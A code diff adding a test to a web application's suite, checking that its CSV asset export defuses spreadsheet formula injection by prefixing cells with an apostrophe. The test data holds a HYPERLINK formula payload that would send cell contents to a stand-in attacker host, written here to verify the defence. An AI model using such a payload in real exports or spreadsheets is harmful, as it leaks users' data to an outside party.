@@ -264,3 +264,18 @@ def test_admin_renames_tags_and_reads_the_audit_log(register: TestClient) -> Non
     register.cookies.clear()
     sign_in(register, "mod@example.org")
     assert register.get("/admin/audit").status_code == 403
+
+
+def test_asset_export_defuses_formula_cells(register: TestClient) -> None:
+    import csv
+
+    sign_in(register, "mod@example.org")
+    attack = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
+    created = suggest(register, name=attack, description="@SUM(1+1)")
+    asset_id = created.headers["location"].split("/")[2].split("?")[0]  # type: ignore[attr-defined]
+    approve(register, asset_id, register.get("/moderation").text)
+    export = register.get("/assets/export.csv")
+    assert export.status_code == 200
+    rows = {row["id"]: row for row in csv.DictReader(io.StringIO(export.text))}
+    assert rows[asset_id]["name"] == "'" + attack and rows[asset_id]["description"] == "'@SUM(1+1)"
+    assert rows[asset_id]["longitude"] == "-2.1917"  # a negative number stays a number
